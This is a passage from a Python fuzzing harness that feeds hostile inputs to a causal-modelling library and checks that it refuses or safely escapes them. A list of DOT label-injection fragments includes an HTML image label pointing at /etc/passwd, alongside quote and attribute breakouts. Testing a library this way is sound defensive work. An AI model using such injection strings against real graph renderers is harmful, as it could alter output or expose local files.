               "bsr_matrix", "dia_matrix", "csr_array", "coo_array", "csc_array"]
    fmt = formats[i % len(formats)]
    where = ["fit list", "fit stacked", "transform", "inverse_transform"][i % 4]

    def run():
        x = world.sim.X[0]
        make = getattr(sp, fmt)
        if where == "fit list":
            CREATOR(2).fit([make(x), make(world.sim.X[1])])
        elif where == "fit stacked":
            X, env = world.sim.stacked()
            CREATOR(2).fit(make(X), environments=env)
        elif where == "transform":
            world.model.transform(make(x))
        else:
            world.model.inverse_transform(make(world.model.latents_[0]))

    return Case("library_errors", f"sparse-{i:02d}", f"a scipy.sparse {fmt} to {where}",
                lambda: expect_refusal(run, ("sparse", "toarray")))


def library_networkx(world: World, i: int) -> Case:
    import networkx as nx

    from creator_plugin.adapters import adjacency_from_networkx

    rng = np.random.default_rng([world.seed, 11, i])
    nodes = [f"n{k}" for k in range(4)]
    edges = [(nodes[a], nodes[b]) for a in range(4) for b in range(a + 1, 4)
             if rng.random() < 0.5]
    kind = ["duplicated", "unhashable", "string", "missing", "extra", "number_for_name",
            "none_entry"][i % 7]
    names = list(nodes)
    must = "names"
    if kind == "duplicated":
        names[int(rng.integers(1, 4))] = names[0]
        must = "repeats"
    elif kind == "unhashable":
        names[int(rng.integers(4))] = ["n0"]
        must = "hashable"
    elif kind == "string":
        names = "n0n1n2n3"
        must = "list of node names"
    elif kind == "missing":
        names = names[:3]
        must = "graph nodes not in names"
    elif kind == "extra":
        names = names + ["n9"]
        must = "names not in graph"
    elif kind == "number_for_name":
        names[int(rng.integers(4))] = 7
        must = "differ"
    else:
        names[int(rng.integers(4))] = None
        must = "differ"
    g = nx.DiGraph(edges)
    g.add_nodes_from(nodes)
    return Case("library_errors", f"networkx-{i:02d}", f"adjacency_from_networkx, {kind} "
                f"names {names!r}", lambda: expect_refusal(
                    lambda: adjacency_from_networkx(g, names), must))


def library_n_jobs(world: World, i: int) -> Case:
    from creator_plugin import bootstrap

    values = [0, "x", 1.5, True, np.float64(2.0), [1], "2", np.bool_(True), complex(1),
              float("nan"), -0]
    value = values[i % len(values)]
    must = "must not be 0" if not isinstance(value, (str, float, list, complex, bool,
                                                      np.bool_, np.floating)) else "n_jobs"

    def run():
        bootstrap(world.sim.X, 1, estimator=CREATOR(2, quality=False), n_jobs=value)

    return Case("library_errors", f"n_jobs-{i:02d}", f"bootstrap(n_jobs={value!r})",
                lambda: expect_refusal(run, must))


# ------------------------------------------------------------ graph_exports
DOT_PIECES = ["\\", '"', '\\"', " shape=box", ' color="red"', "]", "[", ";", "{", "}", "->",
              "<b>", "</b>", "<<img src='/etc/passwd'/>>", "\n", "\t", "\x00", "\x7f", "é",
              "名", "\\N", "\\G", "\\l", "label=", "//", "/*", "*/", "#", "a", "L1"]


def graph_dot(world: World, i: int) -> Case:
    import pydot

    from creator_plugin.adapters.causallearn import to_pydot

    rng = np.random.default_rng([world.seed, 12, i])
    def pieces(low: int, high: int) -> str:
        return "".join(DOT_PIECES[k] for k in rng.integers(len(DOT_PIECES),
                                                          size=int(rng.integers(low, high))))

    names = []
    while len(names) < 3:
        name = pieces(1, 5)
        if name not in names:
            names.append(name)
    title = pieces(0, 4)

    def shown(text):  # what a label written by dot_quoted reads as
        return text.replace("\x00", "\\x00").replace("\t", "\\x09").replace("\x7f", "\\x7f")

    def unquote(label):
        check(label.startswith('"') and label.endswith('"'), f"unquoted label {label!r}")
        body, out, k = label[1:-1], [], 0
        while k < len(body):
            if body[k] == "\\":
                out.append("\n" if body[k + 1] == "n" else body[k + 1])
                k += 2
            else:
                out.append(body[k])
                k += 1
        return "".join(out)

    def run():
        model = world.graph_model
        dot = to_pydot(model, names, title=title)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            parsed = pydot.graph_from_dot_data(dot.to_string())
        check(parsed is not None and len(parsed) == 1, "the DOT does not parse")
        nodes = [n for n in parsed[0].get_nodes() if n.get_name() not in ("node", "graph",
                                                                            "edge")]
        check(len(nodes) == 3, f"{len(nodes)} nodes")
        for n in nodes:
            check(sorted(n.get_attributes()) == ["label", "shape"],
                  f"attributes {n.get_attributes()}")
        labels = [unquote(n.get("label")) for n in sorted(nodes, key=lambda n: int(
            n.get_name()))]
        check(labels == [shown(n) for n in names], f"labels {labels!r}")
        check(len(parsed[0].get_edges()) == int(model.adjacency_matrix_.sum()), "edges")
        return "valid DOT, names shown as text, no attribute added"

    return Case("graph_exports", f"dot-{i:02d}", f"to_pydot with names {names!r}, title "
                f"{title!r}", lambda: expect_answer(run))


def graph_multidigraph(world: World, i: int) -> Case:
    import networkx as nx

    from creator_plugin.adapters import adjacency_from_networkx

    rng = np.random.default_rng([world.seed, 13, i])
    n = int(rng.integers(2, 7))
    kind = ["int", "str", "tuple"][i % 3]
    labels = [k if kind == "int" else f"v{k}" if kind == "str" else ("v", k) for k in range(n)]
    edges = [(labels[a], labels[b]) for a in range(n) for b in range(a + 1, n)
             for _ in range(int(rng.integers(0, 4)))]
    order = [labels[k] for k in rng.permutation(n)]

    def run():
        g = nx.MultiDiGraph()
        g.add_nodes_from(labels)
        g.add_edges_from(edges)
        A = adjacency_from_networkx(g, order)
        ref = nx.to_numpy_array(nx.DiGraph(g), nodelist=order, weight=None)
        check(set(np.unique(A)) <= {0, 1}, f"entries {np.unique(A)}")
        check(np.array_equal(A, ref), "not the graph's adjacency")
        return f"{len(edges)} edges (with repeats) over {n} nodes: a 0/1 adjacency"

    return Case("graph_exports", f"multidigraph-{i:02d}", f"MultiDiGraph of {n} {kind} nodes, "
                f"{len(edges)} edges", lambda: expect_answer(run))


# -------------------------------------------------------------------- sizes
def sizes_huge(world: World, i: int) -> Case:
    from creator_plugin.interventional import simulate_multi_node, simulate_single_node
    from creator_plugin.simulation import simulate_dask, simulate_family

    rng = np.random.default_rng([world.seed, 14, i])
    calls = {"simulate": simulate, "simulate_family": lambda **k: simulate_family("paper", **k),
             "simulate_single_node": simulate_single_node,
             "simulate_multi_node": simulate_multi_node, "simulate_dask": simulate_dask}
    name = list(calls)[i % len(calls)]
    arg = ["n_latent", "n_samples", "n_environments", "n_features"][(i // len(calls)) % 4]
    if name == "simulate_dask" and arg == "n_environments":
        arg = "n_samples"
    # at least this large, whatever the other sizes: beyond any machine's memory
    low = {"n_latent": 10**6, "n_samples": 10**11, "n_environments": 10**9,
           "n_features": 10**10}[arg]
    if name == "simulate_dask":
        low = {"n_latent": 10**6, "n_samples": 10**13, "n_features": 10**12}[arg]
    value = int(low * 10 ** rng.uniform(0, 3))
    kwargs = {arg: value}
    if arg == "n_features":
        kwargs["n_latent"] = 3
    if name in ("simulate_single_node", "simulate_multi_node") and arg == "n_environments":
        kwargs["n_environments"] = value

    def run():
        start = time.perf_counter()
        outcome = expect_refusal(lambda: calls[name](**kwargs), "physical memory")
        took = time.perf_counter() - start
        if outcome[0] == "refused" and took > 10:
            return "unexpected", f"refused after {took:.0f} s"
        return outcome

    return Case("sizes", f"huge-{i:02d}", f"{name}({kwargs})", run)


def sizes_lazy(world: World, i: int) -> Case:
    """A large but lazy dask simulation is not refused: nothing is allocated."""
    from creator_plugin.simulation import simulate_dask

    rng = np.random.default_rng([world.seed, 18, i])
    n = int(10 ** rng.uniform(7, 9))

    def run():
        start = time.perf_counter()
        sim = simulate_dask(3, 2, n, chunk_rows=10**6, random_state=0)
        check([x.shape for x in sim.X] == [(n, 3)] * 2, "wrong shapes")
        check(time.perf_counter() - start < 30, "slow")
        return f"{n} rows per environment, lazy: accepted"

    return Case("sizes", f"lazy-{i:02d}", f"simulate_dask(3, 2, {n}, chunk_rows=10**6)",
                lambda: expect_answer(run))


def sizes_limited(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 15, i])
    d, K = int(rng.integers(1, 8)), int(rng.integers(2, 8))
    n, p = int(10 ** rng.uniform(1, 4.5)), d + int(rng.integers(0, 6))
    limit = int(10 ** rng.uniform(5, 7.5))
    # the estimate of simulation.py, written out here so that the case exists on any version
    estimate = 8 * (d * d * (3 + 3 * K) + p * d + K * n * (2 * d + p) + n * (d + p)) + 1024 * K

    def run():
        # the machine's memory as the package reads it (docs/safety.md: os.sysconf)
        original = os.sysconf
        sizes = {"SC_PHYS_PAGES": limit, "SC_PAGE_SIZE": 1}
        os.sysconf = lambda name: sizes[name] if name in sizes else original(name)
        try:
            if estimate > limit:
                return expect_refusal(lambda: simulate(d, K, n, n_features=p), "lower")
            return expect_answer(lambda: _simulated(d, K, n, p))
        finally:
            os.sysconf = original

    return Case("sizes", f"limited-{i:02d}", f"simulate({d}, {K}, {n}, n_features={p}) with "
                f"{limit} bytes of memory (estimate {estimate})", run)


def _simulated(d, K, n, p) -> str:
    sim = simulate(d, K, n, n_features=p, random_state=0)
    check([x.shape for x in sim.X] == [(n, p)] * K, "wrong shapes")
    return "within the limit: simulated"


def sizes_intervene(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 16, i])
    n = int(10 ** rng.uniform(9, 13))

    def run():
        from creator_plugin.adapters.dowhy import intervene_observations

        start = time.perf_counter()
        outcome = expect_refusal(lambda: intervene_observations(
            world.model, {"L1": 1.0}, n_samples=n), "physical memory")
        if time.perf_counter() - start > 10:
            return "unexpected", "slow refusal"
        return outcome

    return Case("sizes", f"intervene-{i:02d}", f"intervene_observations(n_samples={n})", run,
                "fit")


# -------------------------------------------------------------- model_files
BREAKS = ["off_edge_weight", "diagonal_weight", "zero_mixing", "rank_mixing", "zero_components",
          "rank_components", "label_dict", "label_list", "label_none", "label_nan",
          "label_twice", "labels_mixed", "missing_n_environments", "n_environments_short",
          "short_weights", "short_latents", "short_intercepts", "n_latent_param",
          "negative_noise", "order_contradiction", "column_names_dup", "column_names_type",
          "names_disagree", "missing_weights", "missing_labels"]


def model_broken(world: World, i: int) -> Case:
    what = BREAKS[i % len(BREAKS)]
    rng = np.random.default_rng([world.seed, 17, i])

    def run():
        model, arrays, meta, _ = world.saved
        arrays, meta = dict(arrays), json.loads(json.dumps(meta))
        attrs = meta["attributes"]
        k = int(rng.integers(3))

        def ref(name, idx=None):
            v = attrs[name] if idx is None else attrs[name][idx]
            return v["__ndarray__"]

        A = model.adjacency_matrix_
        if what in ("off_edge_weight", "diagonal_weight"):
            free = [(a, b) for a in range(3) for b in range(3) if not A[a, b] and (
                a == b if what == "diagonal_weight" else a < b)]
            a, b = free[int(rng.integers(len(free)))]
            W = arrays[ref("weights_", k)].copy()
            W[a, b] = float(rng.choice([1e-8, 0.3, -5.0]))
            arrays[ref("weights_", k)] = W
        elif what in ("zero_mixing", "zero_components"):
            name = what.split("_")[1] + "_"
            arrays[ref(name)] = np.zeros_like(arrays[ref(name)])
        elif what in ("rank_mixing", "rank_components"):
            name = what.split("_")[1] + "_"
            M = arrays[ref(name)].copy()
            c = int(rng.integers(3))
            if name == "mixing_":
                M[:, c] = M[:, (c + 1) % 3] * rng.uniform(-3, 3)
            else:
                M[c] = M[(c + 1) % 3] * rng.uniform(-3, 3)
            arrays[ref(name)] = M
        elif what.startswith("label_"):
            attrs["environment_labels_"][k] = {"label_dict": {"a": 1}, "label_list": [1],
                                               "label_none": None, "label_nan": float("nan"),
                                               "label_twice": attrs["environment_labels_"][
                                                   (k + 1) % 3]}[what]
        elif what == "labels_mixed":
            attrs["environment_labels_"] = ["a", 1, 2]
        elif what == "missing_n_environments":
            del attrs["n_environments_"]
        elif what == "n_environments_short":
            attrs["n_environments_"] = 2
        elif what.startswith("short_"):
            name = what.split("_")[1] + "_"
            attrs[name] = attrs[name][:k] + attrs[name][k + 1:]
        elif what == "n_latent_param":
            meta["params"]["n_latent"] = 2
        elif what == "negative_noise":
            s = arrays[ref("noise_scales_", k)].copy()
            s[int(rng.integers(3))] *= -1
            arrays[ref("noise_scales_", k)] = s
        elif what == "order_contradiction":
            order = list(attrs["causal_order_"])
            a, b = (int(v) for v in np.argwhere(A)[0])
            ia, ib = order.index(a), order.index(b)
            order[ia], order[ib] = b, a
            attrs["causal_order_"] = order
        elif what == "column_names_dup":
            attrs["column_names_in_"] = ["a", "b", "c", "c"]
        elif what == "column_names_type":
            attrs["column_names_in_"] = ["a", "b", {"c": 1}, "d"]
        elif what == "names_disagree":
            attrs["column_names_in_"] = ["a", "b", "d", "c"]
        elif what == "missing_weights":
            del attrs["weights_"]
        else:
            del attrs["environment_labels_"]
        path = world.scratch(f"model-{i}") / "m.npz"
        np.savez(path, **arrays, __metadata__=np.frombuffer(json.dumps(meta).encode(),
                                                           np.uint8))
        return expect_refusal(lambda: CREATOR.load(path), (str(path), "not a valid"))

    return Case("model_files", f"broken-{i:02d}", f"a model file with {what}", run)


def model_valid(world: World, i: int) -> Case:
    variants = ["as_saved", "labels_renamed", "labels_ints", "labels_floats", "extra_member",
                "f741e1b_file", "diagnostics_empty", "no_column_names", "no_latents",
                "names_renamed"]
    what = variants[i % len(variants)]

    def run():
        model, arrays, meta, sim = world.saved
        arrays, meta = dict(arrays), json.loads(json.dumps(meta))
        attrs = meta["attributes"]
        root = world.scratch(f"model-valid-{i}")
        path = root / "m.npz"
        if what == "f741e1b_file":
            data = Path(__file__).resolve().parents[1] / "tests" / "data"
            loaded = CREATOR.load(data / "model_f741e1b.npz")
            expected = np.load(data / "model_f741e1b_expected.npz")
            rows = pd.DataFrame(expected["rows"], columns=["alpha", "beta", "gamma", "delta"])
            check(np.array_equal(loaded.transform(rows), expected["latents"]),
                  "the previous release's file transforms differently")
            return "the previous release's file loads, same transform"
        if what == "labels_renamed":
            attrs["environment_labels_"] = ["=x", "y", "z"]
        elif what == "labels_ints":
            attrs["environment_labels_"] = [3, 1, 2]
        elif what == "labels_floats":
            attrs["environment_labels_"] = [0.5, 1.5, -2.0]
        elif what == "diagnostics_empty":
            attrs["diagnostics_"] = {}
        elif what == "no_column_names":
            del attrs["column_names_in_"]
        elif what == "no_latents":
            del attrs["latents_"]
        elif what == "names_renamed":
            attrs["column_names_in_"] = ["p", "q", "r", "s"]
            attrs["feature_names_in_"] = {**attrs["feature_names_in_"]}
            arrays[attrs["feature_names_in_"]["__ndarray__"]] = np.array(["p", "q", "r", "s"])
        np.savez(path, **arrays, __metadata__=np.frombuffer(json.dumps(meta).encode(),
                                                           np.uint8))
        if what == "extra_member":
            import zipfile

            with zipfile.ZipFile(path, "a") as zf:
                zf.writestr("unused.npy", b"\0" * 64)
        loaded = CREATOR.load(path)
        cols = list(loaded.feature_names_in_)
        frame = pd.DataFrame(sim.X[1], columns=cols)
        check(np.array_equal(loaded.transform(frame), model.transform(sim.X[1])),
              "a valid file transforms differently")
        return f"{what}: loads, same transform"

    return Case("model_files", f"valid-{i:02d}", f"a valid model file ({what})",
                lambda: expect_answer(run))


# -------------------------------------------------------------------- cases
def all_cases(world: World) -> list[Case]:
    cases = []
    cases += [names_supported(world, i) for i in range(27)]
    cases += [names_unsupported(world, i) for i in range(17)]
    cases += [names_mismatch(world, i) for i in range(6)]
    cases += [csv_cli(world, i) for i in range(10)]
    cases += [csv_report(world, i) for i in range(15)]
    cases += [csv_writer(world, i) for i in range(20)]
    cases += [interrupt_signal(world, how, moment, force)
              for how in ("SIGTERM", "SIGINT", "SIGKILL")
              for moment in ("fit", "report", "final") for force in (False, True)]
    cases += [interrupt_in_process(world, i) for i in range(24)]
    cases += [interrupt_stale(world, i) for i in range(14)]
    cases += [values_case(world, i) for i in range(45)]
    cases += [values_csv(world, i) for i in range(5)]
    cases += [library_sparse(world, i) for i in range(20)]
    cases += [library_networkx(world, i) for i in range(14)]
    cases += [library_n_jobs(world, i) for i in range(11)]
    cases += [graph_dot(world, i) for i in range(30)]
    cases += [graph_multidigraph(world, i) for i in range(20)]
    cases += [sizes_huge(world, i) for i in range(25)]
    cases += [sizes_limited(world, i) for i in range(20)]
    cases += [sizes_lazy(world, i) for i in range(4)]
    cases += [sizes_intervene(world, i) for i in range(3)]
    cases += [model_broken(world, i) for i in range(40)]
    cases += [model_valid(world, i) for i in range(10)]
    return cases


def sample(cases: list[Case], k: int) -> list[Case]:
    """The ``k`` cheapest cases of every class (in their order)."""
    out = []
    for cls in CLASSES:
        mine = sorted((c for c in cases if c.cls == cls), key=lambda c: COSTS[c.cost])
        out += mine[:k]
    return out


class CaseTimeout(Exception):
    """A case ran longer than its limit (an allocation or a loop that does not end)."""


@contextlib.contextmanager
def _time_limit(seconds: float):
    if not seconds or not hasattr(signal, "setitimer"):
        yield
        return

    def expired(signum, frame):
        raise CaseTimeout(f"still running after {seconds:.0f} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def run_cases(cases: list[Case], log=None, case_seconds: float = 300) -> list[dict]:
    rows = []
    for case in cases:
        start = time.perf_counter()
        try:
            with _time_limit(case_seconds):
                outcome, detail = case.run()
        except CaseTimeout as exc:
            outcome, detail = "unexpected", str(exc)
        except Exception as exc:  # noqa: BLE001 - a bug of the attack itself is a row too
            outcome, detail = "unexpected", f"{type(exc).__name__}: {_short(exc)} " + _short(
                traceback.format_exc(limit=3), 300)
        rows.append({"class": case.cls, "case": case.name, "input": _short(case.description,
                                                                           300),
                     "outcome": outcome, "ok": outcome in GOOD, "detail": detail,
                     "seconds": round(time.perf_counter() - start, 2)})
        if log:
            log(f"{case.cls:15s} {case.name:28s} {outcome:18s} {detail[:90]}")
    return rows


def summarise(rows: list[dict]) -> dict:
    per_class = {}
    for cls in CLASSES:
        mine = [r for r in rows if r["class"] == cls]
        per_class[cls] = {"inputs": len(mine), "ok": sum(r["ok"] for r in mine),
                          "outcomes": dict(sorted(Counter(r["outcome"] for r in mine).items()))}
    return {"inputs": len(rows), "ok": sum(r["ok"] for r in rows),
            "failures": [f"{r['class']}/{r['case']}: {r['outcome']}" for r in rows
                         if not r["ok"]],
            "classes": per_class}


def _commit() -> str | None:
    """The commit of the package that ran, with ``+changes`` when its tree had any."""
    root = PACKAGE_DIRS[0].parent
    try:
        head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, capture_output=True,
                              text=True, check=True).stdout.strip()
        dirty = subprocess.run(["git", "status", "--porcelain", "--", "creator_plugin",
                                "adapters"], cwd=root, capture_output=True, text=True,
                               check=True).stdout.strip()
    except (OSError, subprocess.CalledProcessError):
        return None
    return head + ("+changes" if dirty else "")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, help="directory for rows.jsonl and summary.json")
    parser.add_argument("--seed", type=int, default=54)
    parser.add_argument("--sample", type=int, help="only the K cheapest cases of every class")
    parser.add_argument("--case-seconds", type=float, default=300,
                        help="time limit of one case (a case over it is a failure)")
    args = parser.parse_args(argv)
    world = World(args.seed)
    cases = all_cases(world)
    if args.sample:
        cases = sample(cases, args.sample)
    start = time.perf_counter()
    rows = run_cases(cases, log=lambda m: print(m, flush=True), case_seconds=args.case_seconds)
    summary = summarise(rows)
    summary.update({"seed": args.seed, "seconds": round(time.perf_counter() - start),
                    "command": "OMP_NUM_THREADS=1 python benchmarks/hostile_attack.py "
                               f"--seed {args.seed}" + (f" --sample {args.sample}"
                                                         if args.sample else ""),
                    "version": creator_plugin.__version__, "commit": _commit()})
    if args.out:
        args.out.mkdir(parents=True, exist_ok=True)
        with open(args.out / "rows.jsonl", "w", encoding="utf-8") as fh:
            for row in rows:
                fh.write(json.dumps(row, ensure_ascii=False) + "\n")
        (args.out / "summary.json").write_text(json.dumps(summary, indent=2) + "\n")
    print(json.dumps({k: v for k, v in summary.items() if k != "classes"}, indent=2))
    for cls, s in summary["classes"].items():
        print(f"{cls:15s} {s['inputs']:4d} inputs, {s['ok']:4d} ok  {s['outcomes']}")
    import shutil

    shutil.rmtree(world.root, ignore_errors=True)
    return 0 if summary["ok"] == summary["inputs"] else 1


if __name__ == "__main__":
    sys.exit(main())
